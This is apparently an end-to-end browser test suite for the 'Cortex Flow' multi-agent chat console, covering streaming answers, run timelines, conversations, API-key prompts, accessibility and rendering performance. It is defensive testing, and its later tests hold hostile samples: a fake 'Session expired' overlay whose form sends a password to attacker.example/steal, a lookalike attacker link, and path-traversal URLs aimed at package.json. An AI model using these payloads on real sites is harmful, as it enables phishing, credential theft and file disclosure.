// The console in a real browser (playwright-core + Debian's Chromium), served by Cortex Flow in
// this process against the in-suite scripted upstream: chat in the playground and watch the
// team's progress and the answer stream in, follow "View run" to the timeline, open a failed run,
// browse and delete conversations, the overview, the key prompt when keys are on, a long streamed
// run followed live, and an axe-core scan of every page. The screenshots in docs/ are taken here.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../src/app.ts';
import { sseData } from '../../web/src/sse.ts';
import { exchange, request } from '../security/raw-http.ts';
import { launchBrowser, seriousViolations, type Page, type TestBrowser } from '../support/browser.ts';
import { startMockUpstream, type MockUpstream } from '../support/mock-openai-upstream.ts';
import { ScriptBook, teamScript } from '../support/team-script.ts';
import { startTeamApp } from '../support/team-app.ts';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const KEY = 'sk-console-test-key';
/** How long a page may take to show what is awaited (a loaded machine runs the browser slowly). */
const SETTLE = { timeout: 15_000 };

let upstream: MockUpstream;
let book: ScriptBook;
let browser: TestBrowser;
const dirs: string[] = [];
const apps: App[] = [];

async function startServer(extra: Record<string, string> = {}): Promise<string> {
  const dataDir = mkdtempSync(join(tmpdir(), 'cortex-console-'));
  dirs.push(dataDir);
  const { app, baseUrl } = await startTeamApp(upstream.baseUrl, dataDir, extra);
  apps.push(app);
  return baseUrl;
}

beforeAll(async () => {
  upstream = await startMockUpstream(() => ({ status: 500 }));
  book = new ScriptBook(upstream);
  browser = await launchBrowser();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  for (const app of apps) await app.close();
  await upstream?.close();
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

async function expectAccessible(page: Page) {
  const violations = await seriousViolations(page);
  expect(violations, JSON.stringify(violations, null, 1)).toEqual([]);
}

/**
 * A streamed team run whose writer takes about 2 s (still running when a page opens, even on a
 * loaded machine), its answer read to the end in the background (`delivered`).
 */
async function slowRun(baseUrl: string, name: string) {
  const tag = book.add(
    name,
    teamScript(name, {
      writer: { text: `Written slowly, word by word. [[${name}]]`, chunkSize: 3, chunkDelayMs: 150 },
    }),
  );
  return streamTeamRun(baseUrl, tag);
}

/**
 * Counts the work of `page` from before it loads: the animation frames it gets (counted by the page
 * itself) and how many times functions of the console's bundle run (V8's precise coverage).
 */
async function countWork(page: Page) {
  await page.addInitScript(() => {
    const w = window as any;
    w.__frames = 0;
    const count = () => {
      w.__frames++;
      requestAnimationFrame(count);
    };
    requestAnimationFrame(count);
  });
  const cdp = await browser.context.newCDPSession(page);
  await cdp.send('Profiler.enable');
  await cdp.send('Profiler.startPreciseCoverage', { callCount: true, detailed: false });
  return {
    /** The frames so far, and the page's age (ms). */
    frames: () => page.evaluate(() => ({ frames: (window as any).__frames as number, uptime: performance.now() })),
    /** The calls so far of the innermost function of the minified bundle around each marker (a string only it holds). */
    async callsAround(...markers: string[]): Promise<number[]> {
      const { result } = (await cdp.send('Profiler.takePreciseCoverage')) as any;
      const bundle = result.find((s: any) => /\/assets\/.*\.js$/.test(s.url));
      const source = await (await fetch(bundle.url)).text();
      return markers.map((marker) => {
        const at = source.indexOf(marker);
        expect(at).toBeGreaterThan(0);
        return bundle.functions
          .map((f: any) => f.ranges[0])
          .filter((r: any) => r.startOffset <= at && at < r.endOffset)
          .sort((a: any, b: any) => a.endOffset - a.startOffset - (b.endOffset - b.startOffset))[0].count;
      });
    },
  };
}

/** Starts a streamed team run of the script `tag`; its run id, and the whole answer read meanwhile. */
async function streamTeamRun(baseUrl: string, tag: string) {
  const chat = await fetch(`${baseUrl}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      model: 'cortex-flow',
      stream: true,
      messages: [{ role: 'user', content: `Go [[${tag}]]` }],
    }),
  });
  const delivered = (async () => {
    for await (const _ of chat.body!);
  })();
  return { runId: chat.headers.get('x-cortex-run-id')!, delivered };
}

async function send(page: Page, text: string) {
  await page.getByRole('textbox', { name: 'Message' }).fill(text);
  await page.getByRole('button', { name: 'Send' }).click();
}

describe('the console without keys', () => {
  let baseUrl: string;
  let page: Page;
  /** The first run's page, found through "View run". */
  let runPath = '';

  beforeAll(async () => {
    baseUrl = await startServer();
    page = await browser.context.newPage();
  });

  it('chats with cortex-flow: progress shows live, the answer streams in as Markdown with its citations linked, then the progress folds away', async () => {
    const answer = 'The answer is **42**, as the analyst computed; the Sun drives the water cycle [1]. [[console]]';
    const firstTurn = teamScript('console', {
      // The researcher searches the knowledge base (a source to cite, a tool call on the timeline);
      // slow enough to watch: the specialists take a moment, the writer streams in small pieces.
      specialist: (agent, req) =>
        agent === 'researcher' && !req.body.messages.some((m: any) => m.role === 'tool')
          ? {
              toolCalls: [{ name: 'search_knowledge_base', arguments: { query: 'what drives the water cycle' } }],
            }
          : { text: `The ${agent} found 42 [1]. [[console]]`, delayMs: 300 },
      writer: { text: answer, chunkSize: 6, chunkDelayMs: 40 },
    });
    // The second turn carries the first one's tag too (it is in the conversation): told apart by its question.
    const secondTurn = teamScript('console', { writer: { text: 'Still 42. [[console]]' } });
    book.add('console', (req) =>
      JSON.stringify(req.body.messages).includes('And again?') ? secondTurn(req) : firstTurn(req),
    );
    await page.goto(baseUrl);
    await expect.poll(() => page.getByRole('combobox', { name: 'Model' }).inputValue(), SETTLE).toBe('cortex-flow');
    await expectAccessible(page);

    // What the page shows, as it changes (recorded in the page: no race with this process).
    await page.evaluate(() => {
      const seen = ((window as any).seen = {
        progressAt: 0,
        answerAt: 0,
        openAtAnswer: false,
        answerLengths: [] as number[],
      });
      new MutationObserver(() => {
        if (!seen.progressAt && document.querySelector('[data-testid="progress"] li'))
          seen.progressAt = performance.now();
        const answer = document.querySelector('[data-testid="answer"]');
        if (!answer) return;
        if (!seen.answerAt) {
          seen.answerAt = performance.now();
          seen.openAtAnswer = !!document.querySelector('details.progress[open]');
        }
        const length = answer.textContent!.length;
        if (seen.answerLengths.at(-1) !== length) seen.answerLengths.push(length);
      }).observe(document.body, { subtree: true, childList: true, characterData: true });
    });
    await send(page, 'What is the answer? [[console]]');
    const progress = page.getByTestId('progress');
    const rendered = page.getByTestId('answer');
    await page.getByRole('link', { name: 'View run' }).waitFor();
    await expect
      .poll(() => rendered.innerText(), SETTLE)
      .toBe('The answer is 42, as the analyst computed; the Sun drives the water cycle [1]. [[console]]');
    const seen = await page.evaluate(() => (window as any).seen);
    // The team's progress showed before the answer began, and the answer arrived in pieces.
    expect(seen.progressAt).toBeGreaterThan(0);
    expect(seen.progressAt).toBeLessThan(seen.answerAt);
    expect(seen.answerLengths.length).toBeGreaterThanOrEqual(3);
    // Shown open while the team works, folded away once the answer is done.
    expect(seen.openAtAnswer).toBe(true);
    expect(await rendered.locator('strong').innerText()).toBe('42'); // Markdown, not raw text
    // The citation links to source 1 in the answer's list of sources.
    const citation = rendered.getByRole('link', { name: '[1]' });
    const target = (await citation.getAttribute('href'))!;
    expect(target).toMatch(/^#src-/);
    expect(await page.locator(`li${target}`).innerText()).toContain('kb://');
    // Followed in a window too small for both, it brings the source into view (not the page's top).
    const viewport = page.viewportSize()!;
    await page.setViewportSize({ width: viewport.width, height: 240 });
    await citation.scrollIntoViewIfNeeded();
    await citation.click();
    const inView = () =>
      page
        .locator(`li${target}`)
        .evaluate((el) => el.getBoundingClientRect().top >= 0 && el.getBoundingClientRect().top < innerHeight);
    await expect.poll(inView, SETTLE).toBe(true);
    await page.setViewportSize(viewport);
    await expect.poll(() => page.locator('details.progress').getAttribute('open'), SETTLE).toBeNull();
    expect(await progress.locator('li').count()).toBeGreaterThan(1);
    await expectAccessible(page);
    // For the screenshot: the team's progress, unfolded.
    await page.locator('details.progress summary').click();
    await page.screenshot({ path: join(ROOT, 'docs/console-playground.png'), fullPage: true });
    await page.locator('details.progress summary').click();
  });

  it('continues the conversation across turns', async () => {
    await send(page, 'And again?');
    await expect.poll(() => page.getByTestId('answer').nth(1).innerText(), SETTLE).toBe('Still 42. [[console]]');
    // The second request named the conversation of the first: the supervisor saw the first exchange.
    const supervisor = book
      .requests('console', 'supervisor')
      .find((r) => JSON.stringify(r.body.messages).includes('And again?'))!;
    expect(JSON.stringify(supervisor.body.messages)).toContain('What is the answer? [[console]]');
    expect(JSON.stringify(supervisor.body.messages)).toContain('as the analyst computed');
    expect(await page.getByRole('link', { name: 'View run' }).count()).toBe(2);
  });

  it('follows "View run" to the timeline: one lane per agent that worked, with its steps', async () => {
    await page.getByRole('link', { name: 'View run' }).first().click();
    await page.getByTestId('timeline').waitFor();
    expect(await page.getByTestId('run-status').innerText()).toContain('completed');
    runPath = new URL(page.url()).pathname;
    const lanes = await page.locator('[data-lane]').evaluateAll((els) => els.map((e) => e.getAttribute('data-lane')));
    expect(lanes).toEqual(['supervisor', 'researcher', 'analyst', 'writer']);
    const steps = async (agent: string) => page.locator(`[data-lane="${agent}"] [data-step]`).count();
    // The supervisor planned (delegating to both) and handed over: two model turns.
    expect(await steps('supervisor')).toBe(2);
    expect(await steps('researcher')).toBe(1);
    expect(await steps('analyst')).toBe(1);
    expect(await steps('writer')).toBe(1);
    expect(await page.locator('[data-step][data-state="failed"]').count()).toBe(0);
    // The researcher's knowledge-base search: a mark with its arguments and results.
    const search = page.locator('[data-lane="researcher"] [data-tool]');
    expect(await search.count()).toBe(1);
    await search.click();
    await expect.poll(() => page.locator('.details').innerText(), SETTLE).toContain('what drives the water cycle');
    expect(await page.locator('.details').innerText()).toContain('kb://');
    // The critical path runs through the writer (it ended the run) and the supervisor's turns.
    expect(await page.locator('[data-lane="writer"] [data-step].critical').count()).toBe(1);
    // A step's details, by keyboard.
    await page.locator('[data-lane="researcher"] [data-step]').focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('.details').innerText(), SETTLE).toContain('Find the facts [[console]]');
    await expectAccessible(page);
    await page.screenshot({ path: join(ROOT, 'docs/console-run.png'), fullPage: true });
  });

  it('updates a running run live, then shows how it ended', async () => {
    const { runId, delivered } = await slowRun(baseUrl, 'watched');
    const watcher = await browser.context.newPage();
    await watcher.goto(`${baseUrl}/runs/${runId}`);
    const status = watcher.getByTestId('run-status');
    await status.waitFor();
    expect(await status.innerText()).toContain('live');
    await expect.poll(() => status.innerText(), SETTLE).toBe('completed');
    await delivered;
    expect(await watcher.locator('[data-lane="writer"] [data-step]').count()).toBe(1);
    expect(await watcher.locator('[data-lane="supervisor"] [data-step]').count()).toBe(2);
    await watcher.close();
  });

  it('shows a failed run as failed, from the playground to the timeline', async () => {
    book.add('broken', () => ({ status: 400, error: { message: 'The upstream refused the request.' } }));
    await page.goto(baseUrl);
    await expect.poll(() => page.getByRole('combobox', { name: 'Model' }).inputValue(), SETTLE).toBe('cortex-flow');
    await send(page, 'Break, please [[broken]]');
    await page.getByRole('alert').waitFor();
    expect(await page.getByRole('alert').innerText()).toContain('refused');
    await page.getByRole('link', { name: 'View run' }).click();
    const failure = page.getByTestId('run-failure');
    await failure.waitFor();
    expect(await failure.innerText()).toContain('The run failed');
    expect(await page.getByTestId('run-status').innerText()).toContain('failed');
    expect(await page.locator('[data-step][data-state="failed"]').count()).toBeGreaterThan(0);
    await expectAccessible(page);
    // From its conversation too: the question it left links to the run, as an answer would.
    const failedRun = new URL(page.url()).pathname;
    await page.goBack();
    await page.getByRole('link', { name: /^conv_/ }).click();
    await page.getByRole('heading', { name: /Break, please/ }).waitFor();
    expect(await page.getByRole('link', { name: 'View run' }).getAttribute('href')).toBe(failedRun);
  });

  it('shows the last hour from the store: runs, errors, tokens by agent, latency', async () => {
    await page.getByRole('link', { name: 'Overview' }).click();
    const figures = page.locator('.figures');
    await figures.waitFor();
    const text = await figures.innerText();
    // Two turns of the first conversation, the watched run, the failed one.
    expect(text).toMatch(/Requests \(runs\)\s+4/);
    expect(text).toMatch(/Errors\s+1/);
    expect(await page.locator('tbody th').allInnerTexts()).toEqual(
      expect.arrayContaining(['supervisor', 'researcher', 'analyst', 'writer']),
    );
    await expectAccessible(page);
  });

  it('lists conversations newest first, titled by their first message, shows one, and deletes it', async () => {
    await page.getByRole('link', { name: 'Conversations' }).click();
    const items = page.locator('.list li a');
    await items.first().waitFor();
    const titles = await items.allInnerTexts();
    expect(titles).toHaveLength(3);
    expect(titles[0]).toMatch(/^Break, please/);
    expect(titles[1]).toMatch(/^Go \[\[watched/);
    expect(titles[2]).toMatch(/^What is the answer\?/);
    await expectAccessible(page);

    await items.nth(2).click();
    await page.locator('.transcript li').first().waitFor();
    expect(await page.locator('.transcript li').count()).toBe(4);
    expect(await page.getByRole('link', { name: 'View run' }).count()).toBe(2);
    await expectAccessible(page);
    page.once('dialog', (dialog) => void dialog.accept());
    await page.getByRole('button', { name: 'Delete conversation' }).click();
    await expect.poll(() => new URL(page.url()).pathname, SETTLE).toBe('/conversations');
    await expect
      .poll(() => items.allInnerTexts(), SETTLE)
      .toEqual([expect.stringMatching(/^Break, please/), expect.stringMatching(/^Go /)]);
  });

  it('is usable on a narrow window, and readable in dark mode', async () => {
    // A conversation whose title is one long word: its heading wraps rather than widening the page.
    book.add('wide', teamScript('wide'));
    const wide = await fetch(`${baseUrl}/v1/chat/completions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        model: 'cortex-flow',
        messages: [{ role: 'user', content: `${'W'.repeat(70)} [[wide]]` }],
      }),
    }).then((r) => r.json() as Promise<any>);
    const pages = ['/', runPath, '/conversations', '/overview', `/conversations/${wide.conversation_id}`];
    await page.setViewportSize({ width: 360, height: 800 });
    for (const path of pages) {
      await page.goto(`${baseUrl}${path}`);
      await page.locator('main h1').first().waitFor();
      await page.waitForLoadState('networkidle');
      // Nothing wider than the window: no sideways scrolling of the page (wide tables scroll in place).
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      expect(overflow, path).toBeLessThanOrEqual(0);
      await expectAccessible(page);
    }
    await page.setViewportSize({ width: 1200, height: 860 });
    await page.emulateMedia({ colorScheme: 'dark' });
    for (const path of pages) {
      await page.goto(`${baseUrl}${path}`);
      await page.locator('main h1').first().waitFor();
      await page.waitForLoadState('networkidle');
      expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe('rgb(15, 20, 25)');
      await expectAccessible(page); // contrast included
    }
    await page.emulateMedia({ colorScheme: 'light' });
  });
});

describe('the console with keys on', () => {
  it('asks for a key, keeps it for the session only, and then works with it', async () => {
    const baseUrl = await startServer({ CORTEX_API_KEYS: KEY });
    const page = await browser.context.newPage();
    await page.goto(baseUrl);
    await page.getByRole('heading', { name: 'API key needed' }).waitFor();
    await expectAccessible(page);

    await page.getByRole('textbox', { name: 'API key' }).fill('sk-wrong');
    await page.getByRole('button', { name: 'Use this key' }).click();
    await expect.poll(() => page.getByRole('alert').innerText(), SETTLE).toContain('refused');

    await page.getByRole('textbox', { name: 'API key' }).fill(KEY);
    await page.getByRole('button', { name: 'Use this key' }).click();
    await expect.poll(() => page.getByRole('combobox', { name: 'Model' }).inputValue(), SETTLE).toBe('cortex-flow');
    const stored = await page.evaluate(() => ({
      session: Object.values({ ...sessionStorage }),
      local: Object.values({ ...localStorage }),
    }));
    expect(stored.session).toContain(KEY);
    expect(stored.local).not.toContain(KEY);
    await page.close();
  });
});

describe('the conversations list', () => {
  it('pages through the conversations, 20 at a time, newest first', async () => {
    const baseUrl = await startServer();
    // The supervisor answers on its own: 21 quick conversations.
    const tag = book.add('paged', teamScript('paged', { plan: { text: 'Hello. [[paged]]' } }));
    for (let i = 1; i <= 21; i++) {
      const res = await fetch(`${baseUrl}/v1/chat/completions`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          model: 'cortex-flow',
          messages: [{ role: 'user', content: `Question ${i} [[${tag}]]` }],
        }),
      });
      expect(res.status).toBe(200);
    }
    const page = await browser.context.newPage();
    await page.goto(`${baseUrl}/conversations`);
    const items = page.locator('.list li a');
    await items.first().waitFor();
    expect(await items.count()).toBe(20);
    expect(await items.first().innerText()).toMatch(/^Question 21 /);
    expect(await items.last().innerText()).toMatch(/^Question 2 /);
    await page.getByRole('button', { name: 'Older' }).click();
    await expect.poll(() => items.allInnerTexts(), SETTLE).toEqual([expect.stringMatching(/^Question 1 /)]);
    expect(await page.getByRole('button', { name: 'Older' }).isDisabled()).toBe(true);
    // The page is in the URL: a conversation opened from it, Back returns to that page.
    await items.first().click();
    await page.getByRole('heading', { name: /^Question 1 / }).waitFor();
    await page.goBack();
    await expect.poll(() => items.allInnerTexts(), SETTLE).toEqual([expect.stringMatching(/^Question 1 /)]);
    await page.getByRole('button', { name: 'Newer' }).click();
    await expect.poll(() => items.count(), SETTLE).toBe(20);
    await page.goBack();
    await expect.poll(() => items.count(), SETTLE).toBe(1);
    await page.close();
  });
});

describe('serving the console', () => {
  it('serves its files without a key (they hold no data), its pages as index.html, its assets cached for good', async () => {
    const baseUrl = await startServer({ CORTEX_API_KEYS: KEY });
    const index = await fetch(`${baseUrl}/`);
    expect(index.status).toBe(200);
    expect(index.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(index.headers.get('cache-control')).toBe('no-cache');
    expect(index.headers.get('content-security-policy')).toContain("default-src 'self'");
    const html = await index.text();
    for (const page of ['/runs/run_abc', '/conversations/conv_abc', '/conversations', '/overview'])
      expect(await (await fetch(`${baseUrl}${page}`)).text()).toBe(html);

    const script = /src="(\/assets\/[^"]+\.js)"/.exec(html)![1];
    const asset = await fetch(`${baseUrl}${script}`);
    expect(asset.status).toBe(200);
    expect(asset.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(asset.headers.get('cache-control')).toContain('immutable');
    const missing = await fetch(`${baseUrl}/assets/missing.js`);
    expect(missing.status).toBe(404);
    expect(((await missing.json()) as any).error.code).toBe('unknown_url');
    // Climbing out of the assets folder: refused (404), or not even matched by the router (401).
    for (const outside of [
      '/assets/..%2f..%2fpackage.json',
      '/assets/%2e%2e/%2e%2e/package.json',
      '/assets/../../package.json',
    ]) {
      const res = await fetch(`${baseUrl}${outside}`);
      expect([401, 404]).toContain(res.status);
      expect(await res.text()).not.toContain('"devDependencies"');
    }
    // Request targets the router maps to `/` though no browser sends them are not pages.
    const { response: star } = await exchange(Number(new URL(baseUrl).port), request('GET', '*'));
    expect(star?.status).toBe(404);
    // The API behind it still needs the key.
    expect((await fetch(`${baseUrl}/v1/models`)).status).toBe(401);
    expect((await fetch(`${baseUrl}/v1/stats`)).status).toBe(401);
  });

  it('is off with CORTEX_CONSOLE=false', async () => {
    const baseUrl = await startServer({ CORTEX_CONSOLE: 'false' });
    const res = await fetch(`${baseUrl}/`);
    expect(res.status).toBe(404);
    expect(((await res.json()) as any).error.code).toBe('unknown_url');
  });
});

describe('the timeline of a run whose upstream calls were retried', () => {
  it("marks the retry on the agent's lane, with what failed and when it was tried again", async () => {
    const baseUrl = await startServer({ CORTEX_LLM_MAX_RETRIES: '1' });
    let researcherCalls = 0;
    const tag = book.add(
      'retried',
      teamScript('retried', {
        specialist: (agent) =>
          agent === 'researcher' && ++researcherCalls === 1
            ? { status: 429, headers: { 'retry-after-ms': '30' }, error: { message: 'Rate limit reached' } }
            : { text: `The ${agent} found 42. [[retried]]` },
      }),
    );
    const chat = await fetch(`${baseUrl}/v1/chat/completions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'cortex-flow', messages: [{ role: 'user', content: `Go [[${tag}]]` }] }),
    });
    expect(chat.status).toBe(200);
    const page = await browser.context.newPage();
    await page.goto(`${baseUrl}/runs/${chat.headers.get('x-cortex-run-id')}`);
    await page.getByTestId('timeline').waitFor(SETTLE);
    expect(await page.getByTestId('run-status').innerText()).toContain('completed');
    const retry = page.locator('[data-lane="researcher"] [data-retry]');
    expect(await retry.count()).toBe(1);
    expect(await page.locator('[data-retry]').count()).toBe(1);
    await retry.click();
    const details = () => page.locator('.details').innerText();
    await expect.poll(details, SETTLE).toContain('429 (upstream_rate_limited)');
    expect(await details()).toContain('after 0.03 s');
    expect(await page.locator('[data-lane="researcher"] [data-step][data-state="ok"]').count()).toBe(1);
    await expectAccessible(page);
    await page.close();
  });
});

describe('the playground across views, stopped, and against hostile answers', () => {
  let baseUrl: string;
  let page: Page;

  beforeAll(async () => {
    baseUrl = await startServer();
    page = await browser.context.newPage();
    await page.goto(baseUrl);
    await page.getByRole('option', { name: 'cortex-flow', exact: true }).waitFor({ state: 'attached', ...SETTLE });
  });

  it('follows a live run through a lost connection, keeping what it drew', async () => {
    const { runId, delivered } = await slowRun(baseUrl, 'dropped');
    const watcher = await browser.context.newPage();
    // The first connection to the run's events is cut, as a restarting server would cut it.
    let cut = 0;
    await watcher.route('**/v1/runs/*/events', (route) =>
      cut++ === 0 ? route.abort('connectionreset') : route.continue(),
    );
    await watcher.goto(`${baseUrl}/runs/${runId}`);
    const status = watcher.getByTestId('run-status');
    await expect.poll(() => status.innerText(), SETTLE).toContain('reconnecting');
    await expect.poll(() => status.innerText(), SETTLE).toBe('completed');
    expect(await watcher.getByRole('alert').count()).toBe(0);
    expect(await watcher.locator('[data-lane="writer"] [data-step]').count()).toBe(1);
    expect(cut).toBeGreaterThanOrEqual(1);
    await delivered;
    await watcher.close();
  });

  it('keeps the conversation across views, and a run viewed while its answer streams goes on', async () => {
    book.add(
      'viewed',
      teamScript('viewed', {
        writer: { text: 'Slowly but surely, it arrives. [[viewed]]', chunkSize: 3, chunkDelayMs: 150 },
      }),
    );
    await send(page, 'Take your time [[viewed]]');
    await page.getByRole('link', { name: 'View run' }).click();
    const status = page.getByTestId('run-status');
    await status.waitFor();
    // Leaving the playground did not stop the run: it is followed live and ends completed.
    await expect.poll(() => status.innerText(), SETTLE).toBe('completed');
    await page.getByRole('link', { name: 'Playground' }).click();
    await expect
      .poll(() => page.getByTestId('answer').innerText(), SETTLE)
      .toBe('Slowly but surely, it arrives. [[viewed]]');
    expect(await page.locator('.turn.user').innerText()).toContain('Take your time [[viewed]]');
  });

  it('marks an answer the user stopped as stopped, not as complete', async () => {
    book.add(
      'stopped',
      teamScript('stopped', {
        writer: { text: 'This answer takes far too long to write. [[stopped]]', chunkSize: 2, chunkDelayMs: 200 },
      }),
    );
    await page.getByRole('button', { name: 'New conversation' }).click();
    await send(page, 'Go on and on [[stopped]]');
    await expect.poll(() => page.getByTestId('answer').last().innerText(), SETTLE).toContain('This');
    await page.getByRole('button', { name: 'Stop' }).click();
    await expect.poll(() => page.getByRole('alert').last().innerText(), SETTLE).toBe('Stopped.');
    expect(await page.getByRole('status').innerText()).toBe('Stopped.');
    // Looked at later, the stopped run lasted as long as it ran, and says it was cancelled.
    await new Promise((r) => setTimeout(r, 3000));
    await page.getByRole('link', { name: 'View run' }).last().click();
    await expect.poll(() => page.getByTestId('run-status').innerText(), SETTLE).toBe('cancelled');
    expect(await page.getByTestId('run-failure').innerText()).toContain('The run was cancelled');
    const wall = await page.getByTestId('wall-time').innerText();
    expect(Number.parseFloat(wall)).toBeLessThan(3);
    await page.getByRole('link', { name: 'Playground' }).click();
  });

  it('renders no form and no styled overlay out of an answer, and forbids form submissions', async () => {
    const overlay =
      '<div style="position:fixed;inset:0;background:white;z-index:9999"><h1>Session expired</h1>' +
      '<form action="https://attacker.example/steal"><input name="key" type="password"><button>Sign in</button></form></div>';
    book.add('phish', teamScript('phish', { writer: { text: `${overlay} [[phish]]` } }));
    await page.getByRole('button', { name: 'New conversation' }).click();
    await send(page, 'Anything [[phish]]');
    await expect.poll(() => page.getByTestId('answer').last().innerText(), SETTLE).toContain('Session expired');
    const answer = page.getByTestId('answer').last();
    expect(await answer.locator('form, input, button, [style]').count()).toBe(0);
    const res = await fetch(baseUrl);
    expect(res.headers.get('content-security-policy')).toContain("form-action 'none'");
  });

  it("keeps the console's own classes and ids out of an answer, and survives a link to a malformed path", async () => {
    const lookalike =
      '<a href="https://attacker.example/" class="key-prompt card" id="main">API key needed</a> ' +
      '[broken](/runs/%E0%A4%A) [[lookalike]]';
    book.add('lookalike', teamScript('lookalike', { writer: { text: lookalike } }));
    await page.getByRole('button', { name: 'New conversation' }).click();
    await send(page, 'Anything [[lookalike]]');
    await expect.poll(() => page.getByTestId('answer').last().innerText(), SETTLE).toContain('API key needed');
    const answer = page.getByTestId('answer').last();
    expect(await answer.locator('[class], [id]').count()).toBe(0);
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await answer.getByRole('link', { name: 'broken' }).click();
    await expect.poll(() => page.getByRole('heading', { name: 'Not found' }).count(), SETTLE).toBe(1);
    expect(errors).toEqual([]);
    await page.getByRole('link', { name: 'Playground' }).click();
  });
});

describe('the live page of a long streamed run', () => {
  it('follows thousands of deltas building its timeline at most once a frame, and ends as the stored replay draws it', async () => {
    const DELTAS = 3000;
    // The writer's answer waits until the page follows the run live, then comes one character a
    // delta, as fast as the server sends it. An upstream of its own: its answers may wait.
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    const tag = 'long';
    const script = teamScript(tag, { writer: { text: 'x'.repeat(DELTAS), chunkSize: 1 } });
    const own = await startMockUpstream(async (req) => {
      if (req.agent === 'writer') await held;
      return script(req);
    });
    const baseUrl = await startServer({ OPENAI_BASE_URL: own.baseUrl });
    const { runId, delivered } = await streamTeamRun(baseUrl, tag);
    // What any follower of the run receives live: the deltas one by one, not folded.
    const followed = (async () => {
      let deltas = 0;
      const res = await fetch(`${baseUrl}/v1/runs/${runId}/events`);
      for await (const data of sseData(res)) if (JSON.parse(data).type === 'text_delta') deltas++;
      return deltas;
    })();

    const watcher = await browser.context.newPage();
    const work = await countWork(watcher);
    await watcher.goto(`${baseUrl}/runs/${runId}`);
    const status = watcher.getByTestId('run-status');
    await expect.poll(() => status.innerText(), SETTLE).toContain('live');
    // Drawn live: the writer's step, running, its answer not begun.
    await expect
      .poll(() => watcher.locator('[data-lane="writer"] [data-step]').getAttribute('data-state'), SETTLE)
      .toBe('running');
    release();
    await expect.poll(() => status.innerText(), SETTLE).toBe('completed');
    await delivered;
    expect(await followed).toBe(DELTAS);

    // buildTimeline: the function around a string only it holds.
    const [builds] = await work.callsAround('supervisor:turn');
    const { frames, uptime } = await work.frames();
    // The timeline is built at most once a frame, plus once a tick of the live clock (250 ms) and a
    // few times as the page loads and the run ends: not once a delta (3000 and more when it was).
    expect(builds).toBeGreaterThan(1);
    expect(builds).toBeLessThanOrEqual(frames + Math.ceil(uptime / 250) + 10);

    // The stored replay of the run, opened afresh, draws the same page.
    const replay = await browser.context.newPage();
    await replay.goto(`${baseUrl}/runs/${runId}`);
    await replay.getByTestId('timeline').waitFor(SETTLE);
    expect(await replay.getByTestId('run-status').innerText()).toBe('completed');
    const drawn = (p: Page) => p.locator('main').innerHTML();
    expect(await drawn(watcher)).toBe(await drawn(replay));
    expect(await watcher.locator('[data-lane="writer"] [data-step][data-state="ok"]').count()).toBe(1);
    await replay.close();
    await watcher.close();
    await own.close();
  });
});

describe('the playground streaming a long answer', () => {
  it('draws an answer of thousands of deltas at most once a frame, not once a delta, and ends showing it whole', async () => {
    // A Markdown answer (a numbered list, bold, code) of about 3,000 characters, one a delta.
    const lines: string[] = [];
    for (let i = 1; lines.join('').length < 3000; i++)
      lines.push(`${i}. Step **${i}** of the answer, with \`code\`.\n`);
    const text = lines.join('');
    const tag = book.add('long-answer', teamScript('long-answer', { writer: { text, chunkSize: 1 } }));
    const baseUrl = await startServer();
    // What the page receives: the answer one character a chunk, as any client receives it.
    const res = await fetch(`${baseUrl}/v1/chat/completions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        model: 'cortex-flow',
        stream: true,
        messages: [{ role: 'user', content: `Go [[${tag}]]` }],
      }),
    });
    let deltas = 0;
    for await (const data of sseData(res)) if (JSON.parse(data).choices?.[0]?.delta?.content) deltas++;
    expect(deltas).toBe(text.length);

    const page = await browser.context.newPage();
    const work = await countWork(page);
    await page.goto(baseUrl);
    await expect.poll(() => page.getByRole('combobox', { name: 'Model' }).inputValue(), SETTLE).toBe('cortex-flow');
    await send(page, `Write at length [[${tag}]]`);
    await expect.poll(() => page.getByRole('status').innerText(), { timeout: 60_000 }).toBe('Answer complete.');

    // answerHtml (its citation pattern) parses the whole answer; PlaygroundPage renders the page.
    const [parses, renders] = await work.callsAround('(?![(:])', 'playground-heading');
    const { frames } = await work.frames();
    // At most once a frame, plus a few times as the page loads and the answer ends: not once a
    // delta (3,000 and more each when they were, the page blocked for 21 s).
    expect(parses).toBeGreaterThan(1);
    expect(parses).toBeLessThanOrEqual(frames + 10);
    expect(renders).toBeLessThanOrEqual(frames + 20);

    // The answer shown whole, as Markdown, and as a page opened afresh on it draws it.
    const answer = page.getByTestId('answer');
    expect(await answer.locator('ol > li').count()).toBe(lines.length);
    expect(await answer.locator('strong').count()).toBe(lines.length);
    expect(await answer.locator('li').last().innerText()).toBe(`Step ${lines.length} of the answer, with code.`);
    expect(await page.locator('details.progress').getAttribute('open')).toBeNull();
    expect(await page.getByRole('alert').count()).toBe(0);
    const drawn = await answer.innerHTML();
    await page.getByRole('link', { name: 'Overview' }).click();
    await page.getByRole('link', { name: 'Playground' }).click();
    expect(await page.getByTestId('answer').innerHTML()).toBe(drawn);
    await page.getByRole('link', { name: 'View run' }).click();
    await expect.poll(() => page.getByTestId('run-status').innerText(), SETTLE).toBe('completed');
    await page.close();
  });
});
